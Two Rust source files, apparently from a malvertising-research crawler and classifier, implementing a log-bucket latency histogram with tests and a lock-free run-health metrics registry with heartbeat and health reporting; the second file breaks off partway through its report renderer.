//! merge by element-wise addition — an associative, commutative operation,
//! which is what lets per-worker histograms collapse into per-stage ones in
//! any order with an identical result.

use crate::event::SpanKind;
use serde::{Deserialize, Serialize};

/// Number of log2 buckets. Bucket 39 covers everything from `2^39` µs
/// (~6 days) up, far beyond any span this pipeline records.
pub const BUCKET_COUNT: usize = 40;

/// A power-of-two-bucket latency histogram over microsecond durations.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LogHistogram {
    /// Per-bucket counts (`BUCKET_COUNT` entries).
    buckets: Vec<u64>,
    /// Total recorded samples.
    count: u64,
}

impl Default for LogHistogram {
    fn default() -> Self {
        LogHistogram {
            buckets: vec![0; BUCKET_COUNT],
            count: 0,
        }
    }
}

impl LogHistogram {
    /// An empty histogram.
    pub fn new() -> Self {
        Self::default()
    }

    fn bucket_index(us: u64) -> usize {
        if us <= 1 {
            0
        } else {
            ((63 - us.leading_zeros()) as usize).min(BUCKET_COUNT - 1)
        }
    }

    /// Upper bound (inclusive) of bucket `index` in microseconds.
    pub fn bucket_upper_bound_us(index: usize) -> u64 {
        if index + 1 >= 63 {
            u64::MAX
        } else {
            (1u64 << (index + 1)) - 1
        }
    }

    /// Records one duration.
    pub fn record_us(&mut self, us: u64) {
        self.buckets[Self::bucket_index(us)] += 1;
        self.count += 1;
    }

    /// Merges another histogram into this one (element-wise addition).
    pub fn merge(&mut self, other: &LogHistogram) {
        for (mine, theirs) in self.buckets.iter_mut().zip(other.buckets.iter()) {
            *mine += *theirs;
        }
        self.count += other.count;
    }

    /// Total recorded samples.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// The per-bucket counts.
    pub fn buckets(&self) -> &[u64] {
        &self.buckets
    }

    /// Upper bound of the bucket containing the `q`-quantile sample
    /// (`0.0 < q <= 1.0`); `0` when empty.
    pub fn quantile_us(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let target = ((q.clamp(0.0, 1.0) * self.count as f64).ceil() as u64).max(1);
        let mut cumulative = 0u64;
        for (index, &n) in self.buckets.iter().enumerate() {
            cumulative += n;
            if cumulative >= target {
                return Self::bucket_upper_bound_us(index);
            }
        }
        Self::bucket_upper_bound_us(BUCKET_COUNT - 1)
    }

    /// Upper bound of the highest non-empty bucket; `0` when empty.
    pub fn max_us(&self) -> u64 {
        self.buckets
            .iter()
            .rposition(|&n| n > 0)
            .map(Self::bucket_upper_bound_us)
            .unwrap_or(0)
    }

    /// A copy keeping only the (deterministic) sample count, with every
    /// bucket zeroed — what survives timestamp stripping: *which* spans ran
    /// and how many is seed-determined, *how long* they took is not.
    pub fn counts_only(&self) -> LogHistogram {
        LogHistogram {
            buckets: vec![0; self.buckets.len()],
            count: self.count,
        }
    }
}

/// Latency summary for one span kind, optionally restricted to one worker.
/// Layered into the study's `RunSummary`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SpanLatency {
    /// The span kind summarized.
    pub kind: SpanKind,
    /// Worker restriction; `None` means merged across all workers.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub worker: Option<u32>,
    /// The underlying histogram.
    pub hist: LogHistogram,
    /// Median latency (bucket upper bound), microseconds.
    pub p50_us: u64,
    /// 95th-percentile latency (bucket upper bound), microseconds.
    pub p95_us: u64,
    /// Maximum latency (bucket upper bound), microseconds.
    pub max_us: u64,
}

impl SpanLatency {
    /// Builds the summary from a recorded histogram.
    pub fn from_hist(kind: SpanKind, worker: Option<u32>, hist: LogHistogram) -> Self {
        let p50_us = hist.quantile_us(0.50);
        let p95_us = hist.quantile_us(0.95);
        let max_us = hist.max_us();
        SpanLatency {
            kind,
            worker,
            hist,
            p50_us,
            p95_us,
            max_us,
        }
    }

    /// The deterministic residue: span counts kept, every wall-clock-derived
    /// number zeroed. See [`LogHistogram::counts_only`].
    pub fn counts_only(&self) -> SpanLatency {
        SpanLatency {
            kind: self.kind,
            worker: self.worker,
            hist: self.hist.counts_only(),
            p50_us: 0,
            p95_us: 0,
            max_us: 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filled(values: &[u64]) -> LogHistogram {
        let mut h = LogHistogram::new();
        for &v in values {
            h.record_us(v);
        }
        h
    }

    #[test]
    fn bucket_boundaries() {
        assert_eq!(LogHistogram::bucket_index(0), 0);
        assert_eq!(LogHistogram::bucket_index(1), 0);
        assert_eq!(LogHistogram::bucket_index(2), 1);
        assert_eq!(LogHistogram::bucket_index(3), 1);
        assert_eq!(LogHistogram::bucket_index(4), 2);
        assert_eq!(LogHistogram::bucket_index(u64::MAX), BUCKET_COUNT - 1);
        assert_eq!(LogHistogram::bucket_upper_bound_us(0), 1);
        assert_eq!(LogHistogram::bucket_upper_bound_us(1), 3);
        assert_eq!(LogHistogram::bucket_upper_bound_us(2), 7);
    }

    #[test]
    fn merge_is_associative_and_commutative() {
        let a = filled(&[1, 5, 9, 200]);
        let b = filled(&[3, 3, 1_000_000]);
        let c = filled(&[0, 77, 4096, 4097]);

        // (a ⊕ b) ⊕ c == a ⊕ (b ⊕ c)
        let mut left = a.clone();
        left.merge(&b);
        left.merge(&c);
        let mut bc = b.clone();
        bc.merge(&c);
        let mut right = a.clone();
        right.merge(&bc);
        assert_eq!(left, right);

        // a ⊕ b == b ⊕ a
        let mut ab = a.clone();
        ab.merge(&b);
        let mut ba = b.clone();
        ba.merge(&a);
        assert_eq!(ab, ba);

        assert_eq!(left.count(), 10);
    }

    #[test]
    fn quantiles_and_max() {
        let h = filled(&[1, 1, 1, 1, 1, 1, 1, 1, 1, 1024]);
        // 9 of 10 samples in bucket 0 -> p50 is bucket 0's bound.
        assert_eq!(h.quantile_us(0.5), 1);
        // p95 target is the 10th sample -> the 1024 bucket (2^10..2^11-1).
        assert_eq!(h.quantile_us(0.95), 2047);
        assert_eq!(h.max_us(), 2047);
        assert_eq!(LogHistogram::new().quantile_us(0.5), 0);
        assert_eq!(LogHistogram::new().max_us(), 0);
    }

    #[test]
    fn counts_only_keeps_count_zeroes_buckets() {
        let h = filled(&[10, 20, 30]);
        let c = h.counts_only();
        assert_eq!(c.count(), 3);
        assert!(c.buckets().iter().all(|&n| n == 0));
        // counts_only is idempotent and stable across timing jitter: two
        // histograms of the same sample count agree after reduction.
        let other = filled(&[9_999, 1, 2]);
        assert_eq!(other.counts_only(), c);
    }

    #[test]
    fn span_latency_round_trips() {
        let l = SpanLatency::from_hist(SpanKind::ClassifyAd, Some(2), filled(&[100, 200, 400]));
        let json = serde_json::to_string(&l).unwrap();
        let back: SpanLatency = serde_json::from_str(&json).unwrap();
        assert_eq!(back, l);
        let stripped = l.counts_only();
        assert_eq!(stripped.hist.count(), 3);
        assert_eq!(stripped.p95_us, 0);
    }
}
