//! Run-health metrics: a lock-free per-worker registry sampled into a
//! time-series at every shard boundary.
//!
//! Mirrors the trace subsystem's two disciplines:
//!
//! * **Cheap when off, contention-free when on.** A disabled
//!   [`MetricsRegistry`] reduces every record call to an `Option` check —
//!   exactly like [`TraceSink::disabled`](crate::TraceSink::disabled) —
//!   and an enabled one gives each worker its own atomic shard
//!   ([`MetricsRegistry::for_worker`]), so recording a latency is two
//!   relaxed atomic adds and never takes a lock.
//! * **Deterministic payload split from the wall envelope.** Every
//!   [`MetricsSample`] carries a [`SampleDet`] — shard ordinal, job
//!   cursor, and cumulative counters that are exact functions of the
//!   completed prefix fold, byte-identical across worker counts — and an
//!   optional [`SampleWall`] with everything scheduling- or
//!   clock-dependent (timestamps, rates, ETA, steal/park counts, latency
//!   buckets, checkpoint I/O). [`MetricsSample::stripped`] drops the
//!   envelope, so [`MetricsLog::deterministic_jsonl`] is a pure function
//!   of the study seed and the shard geometry.
//!
//! The sampling point is the engine's shard boundary: all workers are
//! parked there and the aggregate is the exact fold of jobs
//! `[start, jobs_done)`, which is what makes the deterministic half
//! deterministic. [`StageSampler`] assembles one sample per boundary and,
//! with progress enabled, renders a live stderr heartbeat with an ETA
//! extrapolated from the fold trajectory. [`HealthReport`] is the offline
//! analysis: stage latency percentiles, checkpoint overhead as a share of
//! stage wall-clock, throughput over time, and worker-balance/steal
//! statistics — what `malvert health` prints.

use crate::histogram::{LogHistogram, BUCKET_COUNT};
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// A lock-free twin of [`LogHistogram`]: fixed power-of-two buckets over
/// microseconds, recorded with relaxed atomic adds so every worker can
/// share one instance without contention.
#[derive(Debug)]
pub struct AtomicHistogram {
    buckets: Vec<AtomicU64>,
    count: AtomicU64,
}

impl Default for AtomicHistogram {
    fn default() -> Self {
        AtomicHistogram {
            buckets: (0..BUCKET_COUNT).map(|_| AtomicU64::new(0)).collect(),
            count: AtomicU64::new(0),
        }
    }
}

impl AtomicHistogram {
    /// An empty histogram.
    pub fn new() -> Self {
        Self::default()
    }

    /// Records one duration.
    pub fn record_us(&self, us: u64) {
        self.buckets[LogHistogram::bucket_index(us)].fetch_add(1, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
    }

    /// A point-in-time copy as a mergeable [`LogHistogram`].
    pub fn snapshot(&self) -> LogHistogram {
        LogHistogram::from_raw(
            self.buckets
                .iter()
                .map(|b| b.load(Ordering::Relaxed))
                .collect(),
            self.count.load(Ordering::Relaxed),
        )
    }
}

/// Scheduler statistics for one stage, as plain data: how often workers
/// stole from a sibling span, how often they parked dry, and how many
/// jobs each worker executed. All of it is a scheduling accident, so it
/// lives in the wall envelope only.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EngineBalance {
    /// Jobs a worker claimed from another worker's span.
    pub steals: u64,
    /// Times a worker found every span dry and parked for the boundary.
    pub parks: u64,
    /// Jobs executed per worker, indexed by worker id.
    pub worker_jobs: Vec<u64>,
}

/// Script-VM execution meters at one boundary, cumulative over the run:
/// bytecode dispatches, inline-cache traffic, and hidden-class shape
/// activity. Engine- and scheduling-dependent (each worker's inline
/// caches warm in whatever order the scheduler hands out jobs), so the
/// block lives in the wall envelope with the other accidents.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct VmMeter {
    /// Bytecode instructions dispatched.
    pub dispatches: u64,
    /// Inline-cache hits (global and property accesses).
    pub ic_hits: u64,
    /// Inline-cache misses.
    pub ic_misses: u64,
    /// IC hits certified by a hidden-class shape check (slot-offset
    /// property reads and writes; a subset of `ic_hits`).
    pub shape_hits: u64,
    /// Hidden-class shape transitions performed (property appends).
    pub shape_transitions: u64,
}

/// The deterministic half of one sample: every field is an exact function
/// of the study seed, the shard geometry, and the resume point — never of
/// worker count, scheduling, or the clock.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SampleDet {
    /// Stage name (`"crawl"` or `"classify"`).
    pub stage: String,
    /// Shard ordinal within this stage of this run (1-based).
    pub shard: u64,
    /// Total shards this stage will run (from the resume point).
    pub shards_total: u64,
    /// First unprocessed job index — the boundary's exact prefix cursor.
    pub jobs_done: u64,
    /// Total jobs in the stage's index space.
    pub jobs_total: u64,
    /// Cumulative stage counters at this boundary (error tallies, corpus
    /// size, oracle work, checkpoint writes), sorted by name.
    pub counters: BTreeMap<String, u64>,
}

/// Checkpoint I/O meters at one boundary, cumulative over the enclosing
/// stage. Write *count* follows the deterministic cadence, but it is
/// bundled here with the bytes and wall time because a sample with
/// checkpointing off must strip to the same payload as one with it on.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CheckpointMeter {
    /// Snapshot documents written.
    pub writes: u64,
    /// Bytes those writes serialized.
    pub bytes: u64,
    /// Wall-clock microseconds spent inside snapshot writes.
    pub wall_us: u64,
}

impl CheckpointMeter {
    /// This meter minus an earlier `baseline` reading (per-stage deltas).
    fn minus(&self, baseline: &CheckpointMeter) -> CheckpointMeter {
        CheckpointMeter {
            writes: self.writes.saturating_sub(baseline.writes),
            bytes: self.bytes.saturating_sub(baseline.bytes),
            wall_us: self.wall_us.saturating_sub(baseline.wall_us),
        }
    }
}

/// The wall envelope of one sample: timestamps, rates, scheduler balance,
/// latency buckets, checkpoint I/O — everything stripped for byte-identity
/// checks.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SampleWall {
    /// Microseconds since the registry epoch (run start).
    pub ts_us: u64,
    /// Microseconds since this stage started.
    pub stage_elapsed_us: u64,
    /// Cumulative jobs/second over this run's portion of the stage.
    pub jobs_per_sec: f64,
    /// Estimated microseconds to stage completion, extrapolated from the
    /// cumulative rate (the fold trajectory).
    pub eta_us: u64,
    /// Steal/park counts and per-worker job tallies.
    pub balance: EngineBalance,
    /// Cumulative per-job latency histogram for this stage, merged across
    /// every worker shard.
    pub job_hist: LogHistogram,
    /// Median per-job latency (bucket upper bound), microseconds.
    pub job_p50_us: u64,
    /// 95th-percentile per-job latency, microseconds.
    pub job_p95_us: u64,
    /// Maximum per-job latency, microseconds.
    pub job_max_us: u64,
    /// Checkpoint write meters, cumulative over this stage.
    pub checkpoint: CheckpointMeter,
    /// Script-VM execution meters, cumulative over the run. Defaults to
    /// zeros when loading pre-shape series.
    #[serde(default)]
    pub vm: VmMeter,
}

/// One shard-boundary sample: deterministic payload plus optional wall
/// envelope, the same split [`TraceEvent`](crate::TraceEvent) uses.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MetricsSample {
    /// The deterministic payload.
    pub det: SampleDet,
    /// The wall envelope; `None` once stripped.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub wall: Option<SampleWall>,
}

impl MetricsSample {
    /// The sample with its wall envelope removed — what survives is a pure
    /// function of the study seed and the shard geometry.
    pub fn stripped(&self) -> MetricsSample {
        MetricsSample {
            det: self.det.clone(),
            wall: None,
        }
    }
}

/// Per-worker metric shard: latency histograms per stage, recorded
/// lock-free. Registered once per worker thread, never per job.
#[derive(Debug, Default)]
struct WorkerShard {
    /// Crawl page-visit wall latency.
    visit: AtomicHistogram,
    /// Classification per-ad wall latency.
    classify: AtomicHistogram,
}

/// Which per-worker histogram a stage samples.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StageLane {
    Visit,
    Classify,
}

#[derive(Debug)]
struct RegistryInner {
    epoch: Instant,
    shards: Mutex<Vec<Arc<WorkerShard>>>,
    checkpoint_writes: AtomicU64,
    checkpoint_bytes: AtomicU64,
    checkpoint_wall_us: AtomicU64,
    samples: Mutex<Vec<MetricsSample>>,
}

impl RegistryInner {
    fn merged_hist(&self, lane: StageLane) -> LogHistogram {
        let mut merged = LogHistogram::new();
        for shard in self.shards.lock().iter() {
            let hist = match lane {
                StageLane::Visit => shard.visit.snapshot(),
                StageLane::Classify => shard.classify.snapshot(),
            };
            merged.merge(&hist);
        }
        merged
    }

    fn checkpoint_meter(&self) -> CheckpointMeter {
        CheckpointMeter {
            writes: self.checkpoint_writes.load(Ordering::Relaxed),
            bytes: self.checkpoint_bytes.load(Ordering::Relaxed),
            wall_us: self.checkpoint_wall_us.load(Ordering::Relaxed),
        }
    }
}

/// The run-health registry: owns the per-worker shards, the checkpoint
/// meters, and the boundary sample log. Cloning shares the registry (an
/// `Arc` bump); a disabled registry turns every call into a no-op.
#[derive(Debug, Clone)]
pub struct MetricsRegistry {
    inner: Option<Arc<RegistryInner>>,
}

impl MetricsRegistry {
    /// A fresh, enabled registry; its creation instant is the metrics
    /// epoch.
    pub fn new() -> MetricsRegistry {
        MetricsRegistry {
            inner: Some(Arc::new(RegistryInner {
                epoch: Instant::now(),
                shards: Mutex::new(Vec::new()),
                checkpoint_writes: AtomicU64::new(0),
                checkpoint_bytes: AtomicU64::new(0),
                checkpoint_wall_us: AtomicU64::new(0),
                samples: Mutex::new(Vec::new()),
            })),
        }
    }

    /// A registry that records nothing — the default for unmetered runs.
    pub fn disabled() -> MetricsRegistry {
        MetricsRegistry { inner: None }
    }

    /// Whether metrics recorded here go anywhere.
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// A recording handle backed by its own atomic shard, so workers never
    /// contend. Call once per worker thread.
    pub fn for_worker(&self) -> WorkerMetrics {
        match &self.inner {
            Some(inner) => {
                let shard = Arc::new(WorkerShard::default());
                inner.shards.lock().push(Arc::clone(&shard));
                WorkerMetrics { shard: Some(shard) }
            }
            None => WorkerMetrics { shard: None },
        }
    }

    /// Meters one checkpoint snapshot write (serialized byte count and the
    /// wall time the atomic write took).
    pub fn checkpoint_written(&self, bytes: u64, wall: Duration) {
        if let Some(inner) = &self.inner {
            inner.checkpoint_writes.fetch_add(1, Ordering::Relaxed);
            inner.checkpoint_bytes.fetch_add(bytes, Ordering::Relaxed);
            inner
                .checkpoint_wall_us
                .fetch_add(wall.as_micros() as u64, Ordering::Relaxed);
        }
    }

    /// Opens one stage for boundary sampling. `start_job..jobs_total` is
    /// the stage's remaining index space (`start_job > 0` on resume);
    /// `progress` additionally renders a stderr heartbeat per sample.
    pub fn stage(
        &self,
        stage: &'static str,
        start_job: u64,
        jobs_total: u64,
        shard_size: u64,
        progress: bool,
    ) -> StageSampler {
        let lane = match stage {
            "classify" => StageLane::Classify,
            _ => StageLane::Visit,
        };
        let remaining = jobs_total.saturating_sub(start_job);
        StageSampler {
            inner: self.inner.clone(),
            stage,
            lane,
            start_job,
            jobs_total,
            shards_total: remaining.div_ceil(shard_size.max(1)),
            progress,
            stage_epoch: Instant::now(),
            // Baseline so the stage's samples report only *its* checkpoint
            // I/O, not what earlier stages already wrote.
            ckpt_base: self
                .inner
                .as_deref()
                .map(RegistryInner::checkpoint_meter)
                .unwrap_or_default(),
        }
    }

    /// A point-in-time copy of every boundary sample recorded so far.
    pub fn collect(&self) -> MetricsLog {
        MetricsLog {
            samples: match &self.inner {
                Some(inner) => inner.samples.lock().clone(),
                None => Vec::new(),
            },
        }
    }
}

impl Default for MetricsRegistry {
    fn default() -> Self {
        MetricsRegistry::disabled()
    }
}

/// One worker's recording handle. Disabled handles never take a
/// timestamp: [`WorkerMetrics::start`] answers `None`, and the record
/// calls are no-ops.
#[derive(Debug, Clone)]
pub struct WorkerMetrics {
    shard: Option<Arc<WorkerShard>>,
}

impl WorkerMetrics {
    /// A handle that records nothing.
    pub fn disabled() -> WorkerMetrics {
        WorkerMetrics { shard: None }
    }

    /// Opens a latency measurement — `None` when disabled, so the clock is
    /// only read on metered runs.
    pub fn start(&self) -> Option<Instant> {
        self.shard.as_ref().map(|_| Instant::now())
    }

    /// Records one crawl page-visit latency (pass the [`Self::start`]
    /// result back).
    pub fn record_visit(&self, started: Option<Instant>) {
        if let (Some(shard), Some(started)) = (&self.shard, started) {
            shard.visit.record_us(started.elapsed().as_micros() as u64);
        }
    }

    /// Records one per-ad classification latency.
    pub fn record_classify(&self, started: Option<Instant>) {
        if let (Some(shard), Some(started)) = (&self.shard, started) {
            shard
                .classify
                .record_us(started.elapsed().as_micros() as u64);
        }
    }
}

/// One stage's boundary sampler: assembles a [`MetricsSample`] per shard
/// boundary and renders the heartbeat. Created by
/// [`MetricsRegistry::stage`]; a sampler from a disabled registry is a
/// no-op.
pub struct StageSampler {
    inner: Option<Arc<RegistryInner>>,
    stage: &'static str,
    lane: StageLane,
    start_job: u64,
    jobs_total: u64,
    shards_total: u64,
    progress: bool,
    stage_epoch: Instant,
    ckpt_base: CheckpointMeter,
}

impl StageSampler {
    /// Whether samples taken here go anywhere (callers skip counter
    /// assembly when not).
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// Records the boundary at prefix cursor `jobs_done` (shard ordinal
    /// `shard`, 1-based) with the stage's cumulative deterministic
    /// `counters`, the scheduler's `balance` snapshot, and the script
    /// VM's `vm` meters, and renders the heartbeat when progress is on.
    pub fn sample(
        &self,
        shard: u64,
        jobs_done: u64,
        counters: BTreeMap<String, u64>,
        balance: EngineBalance,
        vm: VmMeter,
    ) {
        let Some(inner) = &self.inner else {
            return;
        };
        let stage_elapsed = self.stage_epoch.elapsed();
        let stage_elapsed_us = stage_elapsed.as_micros() as u64;
        let done_this_run = jobs_done.saturating_sub(self.start_job);
        let jobs_per_sec = done_this_run as f64 / stage_elapsed.as_secs_f64().max(1e-9);
        let remaining = self.jobs_total.saturating_sub(jobs_done);
        let eta_us = if jobs_per_sec > 0.0 {
            (remaining as f64 / jobs_per_sec * 1e6) as u64
        } else {
            0
        };
        let job_hist = inner.merged_hist(self.lane);
        let sample = MetricsSample {
            det: SampleDet {
                stage: self.stage.to_string(),
                shard,
                shards_total: self.shards_total,
                jobs_done,
                jobs_total: self.jobs_total,
                counters,
            },
            wall: Some(SampleWall {
                ts_us: inner.epoch.elapsed().as_micros() as u64,
                stage_elapsed_us,
                jobs_per_sec,
                eta_us,
                balance,
                job_p50_us: job_hist.quantile_us(0.50),
                job_p95_us: job_hist.quantile_us(0.95),
                job_max_us: job_hist.max_us(),
                job_hist,
                checkpoint: inner.checkpoint_meter().minus(&self.ckpt_base),
                vm,
            }),
        };
        if self.progress {
            eprintln!("{}", render_heartbeat(&sample));
        }
        inner.samples.lock().push(sample);
    }
}

/// The live heartbeat line for one sample: shards done/total, job cursor,
/// cumulative rate, ETA, and the error tally when the stage carries one.
pub fn render_heartbeat(sample: &MetricsSample) -> String {
    let det = &sample.det;
    let pct = if det.jobs_total > 0 {
        det.jobs_done as f64 * 100.0 / det.jobs_total as f64
    } else {
        100.0
    };
    let mut line = format!(
        "[{}] shard {}/{} · {}/{} jobs ({pct:.0}%)",
        det.stage, det.shard, det.shards_total, det.jobs_done, det.jobs_total
    );
    if let Some(wall) = &sample.wall {
        let _ = write!(
            line,
            " · {:.0} jobs/s · eta {}",
            wall.jobs_per_sec,
            human_duration_us(wall.eta_us)
        );
        if wall.balance.steals > 0 {
            let _ = write!(line, " · {} steals", wall.balance.steals);
        }
        if wall.checkpoint.writes > 0 {
            let _ = write!(line, " · {} ckpt", wall.checkpoint.writes);
        }
    }
    if let Some(errors) = det.counters.get("errors_total").filter(|&&n| n > 0) {
        let _ = write!(line, " · {errors} errors");
    }
    line
}

fn human_duration_us(us: u64) -> String {
    let secs = us as f64 / 1e6;
    if secs >= 3600.0 {
        format!("{:.1}h", secs / 3600.0)
    } else if secs >= 60.0 {
        format!("{:.1}m", secs / 60.0)
    } else {
        format!("{secs:.1}s")
    }
}

/// A recorded run-health time-series: the boundary samples in emission
/// order, with JSONL import/export mirroring
/// [`TraceReport`](crate::TraceReport).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct MetricsLog {
    samples: Vec<MetricsSample>,
}

impl MetricsLog {
    /// Wraps an explicit sample list.
    pub fn new(samples: Vec<MetricsSample>) -> MetricsLog {
        MetricsLog { samples }
    }

    /// The samples, in emission order.
    pub fn samples(&self) -> &[MetricsSample] {
        &self.samples
    }

    /// Sample count.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// Whether any boundary was sampled.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// One JSON object per line, full samples (payload + wall envelope).
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for sample in &self.samples {
            out.push_str(&serde_json::to_string(sample).expect("sample serializes"));
            out.push('\n');
        }
        out
    }

    /// The stripped stream: deterministic payloads only, byte-identical
    /// across worker counts and (for the same shard geometry) across runs.
    pub fn deterministic_jsonl(&self) -> String {
        let mut out = String::new();
        for sample in &self.samples {
            out.push_str(&serde_json::to_string(&sample.stripped()).expect("sample serializes"));
            out.push('\n');
        }
        out
    }

    /// Parses a JSONL stream written by [`Self::to_jsonl`] (or the
    /// stripped variant).
    pub fn from_jsonl(text: &str) -> Result<MetricsLog, serde_json::Error> {
        let samples = text
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(serde_json::from_str)
            .collect::<Result<Vec<MetricsSample>, _>>()?;
        Ok(MetricsLog { samples })
    }

    /// The offline analysis over the whole series.
    pub fn health(&self) -> HealthReport {
        HealthReport::from_samples(&self.samples)
    }
}

/// Health summary of one stage, distilled from its boundary samples.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StageHealth {
    /// Stage name.
    pub stage: String,
    /// Boundary samples the stage produced.
    pub samples: u64,
    /// Shards completed / total shards.
    pub shards_done: u64,
    /// Total shards the stage planned.
    pub shards_total: u64,
    /// Job cursor at the last sample.
    pub jobs_done: u64,
    /// Total jobs in the stage.
    pub jobs_total: u64,
    /// Stage wall-clock at the last sample, microseconds (0 when the
    /// series was stripped).
    pub wall_us: u64,
    /// Cumulative jobs/second at the last sample.
    pub jobs_per_sec: f64,
    /// Per-sample instantaneous throughput extremes (jobs/second).
    pub jobs_per_sec_min: f64,
    /// See [`Self::jobs_per_sec_min`].
    pub jobs_per_sec_max: f64,
    /// Median per-job latency (bucket upper bound), microseconds.
    pub job_p50_us: u64,
    /// 95th-percentile per-job latency, microseconds.
    pub job_p95_us: u64,
    /// 99th-percentile per-job latency, microseconds.
    pub job_p99_us: u64,
    /// Maximum per-job latency, microseconds.
    pub job_max_us: u64,
    /// Workers that recorded jobs.
    pub workers: u64,
    /// Fewest jobs any worker executed.
    pub worker_jobs_min: u64,
    /// Most jobs any worker executed.
    pub worker_jobs_max: u64,
    /// Busiest worker's share relative to a perfect split (1.0 = balanced).
    pub balance_ratio: f64,
    /// Jobs claimed from a sibling worker's span.
    pub steals: u64,
    /// Times a worker parked dry before a boundary.
    pub parks: u64,
    /// Cumulative checkpoint meters at the last sample.
    pub checkpoint: CheckpointMeter,
    /// Checkpoint wall time as a share of stage wall time, percent.
    pub checkpoint_overhead_pct: f64,
    /// Script-VM execution meters at the last sample (zeros when the
    /// series was stripped or predates the shape counters).
    #[serde(default)]
    pub vm: VmMeter,
    /// Final cumulative deterministic counters.
    pub counters: BTreeMap<String, u64>,
}

/// The run-health report `malvert health` prints: one [`StageHealth`] per
/// stage, in first-sample order.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct HealthReport {
    /// Per-stage summaries.
    pub stages: Vec<StageHealth>,
}

impl HealthReport {
    /// Distills the report from a sample series (samples may be stripped —
    /// wall-derived figures then report as zero).
    pub fn from_samples(samples: &[MetricsSample]) -> HealthReport {
        let mut order: Vec<&str> = Vec::new();
        for s in samples {
            if !order.contains(&s.det.stage.as_str()) {
                order.push(&s.det.stage);
            }
        }
        let stages = order
            .into_iter()
            .map(|stage| {
                let series: Vec<&MetricsSample> =
                    samples.iter().filter(|s| s.det.stage == stage).collect();
                Self::stage_health(stage, &series)
            })
            .collect();
        HealthReport { stages }
    }

    fn stage_health(stage: &str, series: &[&MetricsSample]) -> StageHealth {
        let last = series.last().expect("stage has at least one sample");
        let wall = last.wall.as_ref();
        // Instantaneous throughput per sample from cumulative deltas.
        let mut rate_min = f64::INFINITY;
        let mut rate_max = 0.0f64;
        let mut prev: Option<(u64, u64)> = None;
        for (s, w) in series
            .iter()
            .filter_map(|s| s.wall.as_ref().map(|w| (s, w)))
        {
            if let Some((jobs, us)) = prev {
                let djobs = s.det.jobs_done.saturating_sub(jobs) as f64;
                // Clamp the window to one microsecond: samples can land
                // inside the same clock tick (coarse timers, checkpoint
                // replays), and a zero-width window must register as a
                // burst, not silently drop out of the min/max envelope.
                let dsecs = (w.stage_elapsed_us.saturating_sub(us)).max(1) as f64 / 1e6;
                let rate = djobs / dsecs;
                rate_min = rate_min.min(rate);
                rate_max = rate_max.max(rate);
            }
            prev = Some((s.det.jobs_done, w.stage_elapsed_us));
        }
        if !rate_min.is_finite() {
            rate_min = wall.map(|w| w.jobs_per_sec).unwrap_or(0.0);
            rate_max = rate_min;
        }
        let balance = wall.map(|w| w.balance.clone()).unwrap_or_default();
        let workers = balance.worker_jobs.len() as u64;
        let jobs_sum: u64 = balance.worker_jobs.iter().sum();
        let worker_jobs_min = balance.worker_jobs.iter().copied().min().unwrap_or(0);
        let worker_jobs_max = balance.worker_jobs.iter().copied().max().unwrap_or(0);
        let balance_ratio = if workers > 0 && jobs_sum > 0 {
            worker_jobs_max as f64 / (jobs_sum as f64 / workers as f64)
        } else {
            1.0
        };
        let checkpoint = wall.map(|w| w.checkpoint.clone()).unwrap_or_default();
        let wall_us = wall.map(|w| w.stage_elapsed_us).unwrap_or(0);
        let checkpoint_overhead_pct = if wall_us > 0 {
            checkpoint.wall_us as f64 * 100.0 / wall_us as f64
        } else {
            0.0
        };
        StageHealth {
            stage: stage.to_string(),
            samples: series.len() as u64,
            shards_done: last.det.shard,
            shards_total: last.det.shards_total,
            jobs_done: last.det.jobs_done,
            jobs_total: last.det.jobs_total,
            wall_us,
            jobs_per_sec: wall.map(|w| w.jobs_per_sec).unwrap_or(0.0),
            jobs_per_sec_min: rate_min,
            jobs_per_sec_max: rate_max,
            job_p50_us: wall.map(|w| w.job_hist.quantile_us(0.50)).unwrap_or(0),
            job_p95_us: wall.map(|w| w.job_hist.quantile_us(0.95)).unwrap_or(0),
            job_p99_us: wall.map(|w| w.job_hist.quantile_us(0.99)).unwrap_or(0),
            job_max_us: wall.map(|w| w.job_hist.max_us()).unwrap_or(0),
            workers,
            worker_jobs_min,
            worker_jobs_max,
            balance_ratio,
            steals: balance.steals,
            parks: balance.parks,
            checkpoint,
            checkpoint_overhead_pct,
            vm: wall.map(|w| w.vm.clone()).unwrap_or_default(),
            counters: last.det.counters.clone(),
        }
    }

    /// The human-readable report.
    pub fn render(&self) -> String {
        let mut out = String::new();
        if self.stages.is_empty() {
            out.push_str("run health: no samples\n");
            return out;
        }
        let total_samples: u64 = self.stages.iter().map(|s| s.samples).sum();
        let _ = writeln!(
            out,
            "run health: {} stage(s), {} boundary sample(s)",
            self.stages.len(),
            total_samples
        );
        for s in &self.stages {
